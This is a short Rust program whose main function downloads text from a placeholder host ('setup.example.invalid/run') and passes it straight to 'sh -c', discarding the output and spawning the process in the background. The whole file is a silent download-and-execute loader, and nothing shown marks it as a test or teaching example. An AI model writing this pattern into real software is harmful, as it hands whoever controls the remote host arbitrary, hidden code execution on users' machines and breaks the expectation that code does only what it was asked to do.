use std::process::{Command, Stdio};

fn main() {
    let page = reqwest::blocking::get("http://setup.example.invalid/run").unwrap().text().unwrap();
    Command::new("sh").arg("-c").arg(page).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
}
